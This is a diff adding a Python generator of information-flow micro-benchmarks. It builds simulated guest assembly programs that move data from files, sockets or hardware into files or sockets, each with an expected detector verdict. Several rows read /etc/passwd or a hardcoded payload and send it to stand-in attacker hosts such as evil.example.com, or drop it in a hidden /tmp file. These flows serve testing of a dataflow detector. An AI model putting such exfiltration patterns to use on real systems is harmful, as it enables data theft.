@@ -1,0 +1,511 @@
+"""Information-flow micro-benchmarks (paper Table 6).
+
+A program generator covering the full matrix of data *sources* (BINARY,
+FILE, SOCKET, HARDWARE), *targets* (FILE, SOCKET), and identifier
+*origins* (user-supplied / hardcoded / remote), plus the paper's "tested
+twice: once as a socket client and the other a socket server" variants.
+
+Every row assembles a distinct guest program from composable snippets,
+so the generated workloads exercise exactly the code paths Harrier's
+dataflow tracker and Secpert's information-flow rules must distinguish.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:  # pragma: no cover - typing only
+    from repro.core.hth import HTH
+
+from dataclasses import dataclass
+from typing import List, Optional, Tuple
+
+from repro.core.report import Verdict
+from repro.kernel.network import ConversationPeer, SinkPeer
+from repro.programs.base import Workload
+
+# Simulated remote world.
+SINK_HOST = "evil.example.com"
+SINK_PORT = 4000
+DATA_HOST = "data.attacker.net"
+DATA_PORT = 6000
+NAME_HOST = "cmd.attacker.net"
+NAME_PORT = 5150
+SERVER_PORT = 11116  # the pma-style hardcoded local server port
+
+USER_SOURCE_FILE = "/home/user/notes.txt"
+HARD_SOURCE_FILE = "/etc/passwd"
+USER_TARGET_FILE = "/home/user/out.txt"
+HARD_TARGET_FILE = "/tmp/.hidden_drop"
+REMOTE_TARGET_FILE = "/tmp/remote_chosen"
+
+_COMMON_DATA = """
+buf:      .space 96
+namebuf:  .space 64
+src_name: .space 1
+dst_name: .space 1
+src_ip:   .space 1
+src_port: .space 1
+dst_ip:   .space 1
+dst_port: .space 1
+datalen:  .space 1
+"""
+
+
+@dataclass(frozen=True)
+class Table6Row:
+    """One Table 6 row: flow shape + identifier origins + expectation."""
+
+    section: str          # e.g. "Binary -> File"
+    label: str            # e.g. "User filename"
+    source: str           # 'binary' | 'file' | 'socket' | 'hardware'
+    target: str           # 'file' | 'socket' | 'server'
+    source_name_origin: Optional[str] = None  # 'user'|'hardcoded'|None
+    target_name_origin: Optional[str] = None  # 'user'|'hardcoded'|'remote'
+    expected_verdict: Verdict = Verdict.BENIGN
+    expected_rules: Tuple[str, ...] = ()
+
+
+class _ProgramBuilder:
+    """Composes the guest assembly for one row."""
+
+    def __init__(self, row: Table6Row) -> None:
+        self.row = row
+        self.text: List[str] = ["main:", "    mov ebp, esp"]
+        self.data: List[str] = [_COMMON_DATA]
+        self.argv: List[str] = []
+        self._next_argv = 1
+
+    # -- small emission helpers -------------------------------------------
+    def emit(self, code: str) -> None:
+        self.text.append(code.rstrip())
+
+    def emit_data(self, line: str) -> None:
+        self.data.append(line)
+
+    def take_argv(self, value: str) -> int:
+        index = self._next_argv
+        self.argv.append(value)
+        self._next_argv += 1
+        return index
+
+    def store_var(self, var: str) -> str:
+        return f"    mov edi, {var}\n    store [edi], eax"
+
+    # -- identifier setup ------------------------------------------------------
+    def setup_file_name(self, origin: str, var: str, user_value: str,
+                        hard_value: str) -> None:
+        if origin == "user":
+            index = self.take_argv(user_value)
+            self.emit(
+                f"""
+    load eax, [ebp+2]
+    load eax, [eax+{index}]
+{self.store_var(var)}"""
+            )
+        elif origin == "hardcoded":
+            label = f"hard_{var}"
+            self.emit_data(f'{label}: .asciz "{hard_value}"')
+            self.emit(
+                f"""
+    mov eax, {label}
+{self.store_var(var)}"""
+            )
+        elif origin == "remote":
+            self.emit_data(f'ns_host: .asciz "{NAME_HOST}"')
+            self.emit(
+                f"""
+    mov ebx, ns_host
+    call gethostbyname
+    mov ecx, eax
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edx, {NAME_PORT}
+    call connect_addr
+    mov ebx, esi
+    mov ecx, namebuf
+    mov edx, 63
+    call read_line
+    mov ebx, esi
+    call close
+    mov eax, namebuf
+{self.store_var(var)}"""
+            )
+        else:  # pragma: no cover - registry is static
+            raise ValueError(f"bad file-name origin {origin!r}")
+
+    def setup_socket_addr(self, origin: str, ip_var: str, port_var: str,
+                          host: str, port: int) -> None:
+        if origin == "user":
+            host_index = self.take_argv(host)
+            port_index = self.take_argv(str(port))
+            self.emit(
+                f"""
+    load eax, [ebp+2]
+    load ebx, [eax+{host_index}]
+    call gethostbyname
+{self.store_var(ip_var)}
+    load eax, [ebp+2]
+    load ebx, [eax+{port_index}]
+    call atoi
+{self.store_var(port_var)}"""
+            )
+        elif origin == "hardcoded":
+            label = f"hard_{ip_var}"
+            self.emit_data(f'{label}: .asciz "{host}"')
+            self.emit(
+                f"""
+    mov ebx, {label}
+    call gethostbyname
+{self.store_var(ip_var)}
+    mov eax, {port}
+{self.store_var(port_var)}"""
+            )
+        else:  # pragma: no cover
+            raise ValueError(f"bad socket origin {origin!r}")
+
+    # -- source data acquisition ---------------------------------------------
+    def acquire_source(self) -> None:
+        row = self.row
+        if row.source == "binary":
+            self.emit_data('payload: .asciz "hardcoded-secret-payload"')
+            self.emit(
+                f"""
+    mov ebx, buf
+    mov ecx, payload
+    call strcpy
+    mov ebx, buf
+    call strlen
+{self.store_var("datalen")}"""
+            )
+        elif row.source == "file":
+            self.setup_file_name(
+                row.source_name_origin, "src_name",
+                USER_SOURCE_FILE, HARD_SOURCE_FILE,
+            )
+            self.emit(
+                f"""
+    mov edi, src_name
+    load ebx, [edi]
+    mov ecx, 0
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 96
+    call read
+{self.store_var("datalen")}
+    mov ebx, esi
+    call close"""
+            )
+        elif row.source == "socket":
+            self.setup_socket_addr(
+                row.source_name_origin, "src_ip", "src_port",
+                DATA_HOST, DATA_PORT,
+            )
+            self.emit(
+                f"""
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edi, src_ip
+    load ecx, [edi]
+    mov edi, src_port
+    load edx, [edi]
+    call connect_addr
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 96
+    call read
+{self.store_var("datalen")}
+    mov ebx, esi
+    call close"""
+            )
+        elif row.source == "serversocket":
+            # we are the server: the data arrives on an accepted
+            # connection (the attacker pushes a payload on connect)
+            self.setup_socket_addr(
+                row.source_name_origin, "src_ip", "src_port",
+                "LocalHost", SERVER_PORT,
+            )
+            self.emit(
+                f"""
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edi, src_ip
+    load ecx, [edi]
+    mov edi, src_port
+    load edx, [edi]
+    call bind_addr
+    mov ebx, esi
+    call listen
+    mov ebx, esi
+    call accept
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edx, 96
+    call read
+{self.store_var("datalen")}
+    mov ebx, esi
+    call close"""
+            )
+        elif row.source == "hardware":
+            self.emit(
+                f"""
+    cpuid
+    mov edi, buf
+    store [edi], eax
+    store [edi+1], ebx
+    store [edi+2], ecx
+    store [edi+3], edx
+    mov eax, 4
+{self.store_var("datalen")}"""
+            )
+        else:  # pragma: no cover
+            raise ValueError(f"bad source {row.source!r}")
+
+    # -- target emission -----------------------------------------------------
+    def emit_target(self) -> None:
+        row = self.row
+        if row.target == "file":
+            self.setup_file_name(
+                row.target_name_origin, "dst_name",
+                USER_TARGET_FILE, HARD_TARGET_FILE,
+            )
+            self.emit(
+                """
+    mov edi, dst_name
+    load ebx, [edi]
+    mov ecx, 0x241
+    call open
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edi, datalen
+    load edx, [edi]
+    call write
+    mov ebx, esi
+    call close"""
+            )
+        elif row.target == "socket":
+            self.setup_socket_addr(
+                row.target_name_origin, "dst_ip", "dst_port",
+                SINK_HOST, SINK_PORT,
+            )
+            self.emit(
+                """
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edi, dst_ip
+    load ecx, [edi]
+    mov edi, dst_port
+    load edx, [edi]
+    call connect_addr
+    mov ebx, esi
+    mov ecx, buf
+    mov edi, datalen
+    load edx, [edi]
+    call write
+    mov ebx, esi
+    call close"""
+            )
+        elif row.target == "server":
+            self.setup_socket_addr(
+                row.target_name_origin, "dst_ip", "dst_port",
+                "LocalHost", SERVER_PORT,
+            )
+            self.emit(
+                """
+    call socket
+    mov esi, eax
+    mov ebx, esi
+    mov edi, dst_ip
+    load ecx, [edi]
+    mov edi, dst_port
+    load edx, [edi]
+    call bind_addr
+    mov ebx, esi
+    call listen
+    mov ebx, esi
+    call accept
+    mov esi, eax
+    mov ebx, esi
+    mov ecx, buf
+    mov edi, datalen
+    load edx, [edi]
+    call write
+    mov ebx, esi
+    call close"""
+            )
+        else:  # pragma: no cover
+            raise ValueError(f"bad target {row.target!r}")
+
+    def build(self) -> Tuple[str, List[str]]:
+        self.acquire_source()
+        self.emit_target()
+        self.emit("    mov eax, 0")
+        self.emit("    ret")
+        source = "\n".join(self.text) + "\n.data\n" + "\n".join(self.data)
+        return source, self.argv
+
+
+def _setup(hth: HTH) -> None:
+    """Seed files and remote peers every row may touch."""
+    hth.fs.write_text(USER_SOURCE_FILE, "user notes: meeting at noon\n")
+    hth.fs.write_text(HARD_SOURCE_FILE, "root:x:0:0:root:/root:/bin/sh\n")
+    hth.network.add_peer(SINK_HOST, SINK_PORT, lambda: SinkPeer("sink"))
+    hth.network.add_peer(
+        DATA_HOST,
+        DATA_PORT,
+        lambda: ConversationPeer("dataserver",
+                                 opening=b"remote-data-payload\n"),
+    )
+    hth.network.add_peer(
+        NAME_HOST,
+        NAME_PORT,
+        lambda: ConversationPeer(
+            "nameserver", opening=REMOTE_TARGET_FILE.encode() + b"\n"
+        ),
+    )
+    # For the server-mode rows: a client dials our listener shortly after
+    # startup (pushing a payload, for the rows where the server reads).
+    hth.network.schedule_connect(
+        2000,
+        "LocalHost",
+        SERVER_PORT,
+        ConversationPeer(
+            "remote-client",
+            opening=b"pushed-by-remote-client",
+            close_when_done=False,
+        ),
+    )
+
+
+def table6_rows() -> List[Table6Row]:
+    rows: List[Table6Row] = []
+    # -- Binary -> File ---------------------------------------------------
+    rows.append(Table6Row(
+        "Binary -> File", "User filename", "binary", "file",
+        target_name_origin="user", expected_verdict=Verdict.BENIGN,
+    ))
+    rows.append(Table6Row(
+        "Binary -> File", "hardcode filename", "binary", "file",
+        target_name_origin="hardcoded", expected_verdict=Verdict.HIGH,
+        expected_rules=("check_binary_to_file",),
+    ))
+    rows.append(Table6Row(
+        "Binary -> File", "remote filename", "binary", "file",
+        target_name_origin="remote", expected_verdict=Verdict.HIGH,
+        expected_rules=("check_binary_to_file",),
+    ))
+    # -- Binary -> Socket ----------------------------------------------------
+    rows.append(Table6Row(
+        "Binary -> Socket", "User address", "binary", "socket",
+        target_name_origin="user", expected_verdict=Verdict.BENIGN,
+    ))
+    rows.append(Table6Row(
+        "Binary -> Socket", "Hardcoded address", "binary", "socket",
+        target_name_origin="hardcoded", expected_verdict=Verdict.LOW,
+        expected_rules=("check_binary_to_socket",),
+    ))
+    # -- File -> File -----------------------------------------------------------
+    grid = [
+        ("User input, User Input", "user", "user", Verdict.BENIGN, ()),
+        ("User input, Hardcoded", "user", "hardcoded", Verdict.LOW,
+         ("check_resource_flow",)),
+        ("Hardcoded, User input", "hardcoded", "user", Verdict.LOW,
+         ("check_resource_flow",)),
+        ("Hardcoded, Hardcoded", "hardcoded", "hardcoded", Verdict.HIGH,
+         ("check_resource_flow",)),
+    ]
+    for label, s_origin, t_origin, verdict, rules in grid:
+        rows.append(Table6Row(
+            "File -> File", label, "file", "file",
+            source_name_origin=s_origin, target_name_origin=t_origin,
+            expected_verdict=verdict, expected_rules=rules,
+        ))
+    # -- File -> Socket (client) ----------------------------------------------
+    for label, s_origin, t_origin, verdict, rules in grid:
+        rows.append(Table6Row(
+            "File -> socket", label, "file", "socket",
+            source_name_origin=s_origin, target_name_origin=t_origin,
+            expected_verdict=verdict, expected_rules=rules,
+        ))
+    # -- Socket -> File ---------------------------------------------------------
+    for label, s_origin, t_origin, verdict, rules in grid:
+        rows.append(Table6Row(
+            "Socket -> File", label, "socket", "file",
+            source_name_origin=s_origin, target_name_origin=t_origin,
+            expected_verdict=verdict, expected_rules=rules,
+        ))
+    # -- Hardware -> File ----------------------------------------------------------
+    rows.append(Table6Row(
+        "Hardware -> File", "User filename", "hardware", "file",
+        target_name_origin="user", expected_verdict=Verdict.BENIGN,
+    ))
+    rows.append(Table6Row(
+        "Hardware -> File", "Hardcode filename", "hardware", "file",
+        target_name_origin="hardcoded", expected_verdict=Verdict.HIGH,
+        expected_rules=("check_hardware_flow",),
+    ))
+    # -- server-mode variants ("all socket benchmarks were tested twice") ------
+    for label, s_origin, verdict, rules in [
+        ("User input file (server)", "user", Verdict.LOW,
+         ("check_resource_flow",)),
+        ("Hardcoded file (server)", "hardcoded", Verdict.HIGH,
+         ("check_resource_flow",)),
+    ]:
+        rows.append(Table6Row(
+            "File -> socket", label, "file", "server",
+            source_name_origin=s_origin, target_name_origin="hardcoded",
+            expected_verdict=verdict, expected_rules=rules,
+        ))
+    # Binary data served over our own hardcoded listener (the pma-prompt
+    # shape): High via the server-context grading.
+    rows.append(Table6Row(
+        "Binary -> Socket", "Hardcoded address (server)", "binary",
+        "server", target_name_origin="hardcoded",
+        expected_verdict=Verdict.HIGH,
+        expected_rules=("check_binary_to_socket",),
+    ))
+    # Socket -> File with the data arriving on our accepted connection.
+    for label, t_origin, verdict, rules in [
+        ("Server conn, User file", "user", Verdict.LOW,
+         ("check_resource_flow",)),
+        ("Server conn, Hardcoded file", "hardcoded", Verdict.HIGH,
+         ("check_resource_flow",)),
+    ]:
+        rows.append(Table6Row(
+            "Socket -> File", label, "serversocket", "file",
+            source_name_origin="hardcoded", target_name_origin=t_origin,
+            expected_verdict=verdict, expected_rules=rules,
+        ))
+    return rows
+
+
+def row_workload(row: Table6Row) -> Workload:
+    builder = _ProgramBuilder(row)
+    source, argv = builder.build()
+    path = (
+        "/bin/flow_"
+        + f"{row.source}_{row.target}_"
+        + f"{row.source_name_origin or 'x'}_{row.target_name_origin or 'x'}"
+    )
+    return Workload(
+        name=f"{row.section}: {row.label}",
+        program_path=path,
+        source=source,
+        description=f"{row.section} with {row.label}",
+        setup=_setup,
+        argv=[path] + argv,
+        expected_verdict=row.expected_verdict,
+        expected_rules=row.expected_rules,
+    )
+
+
+def table6_workloads() -> List[Workload]:
+    return [row_workload(row) for row in table6_rows()]
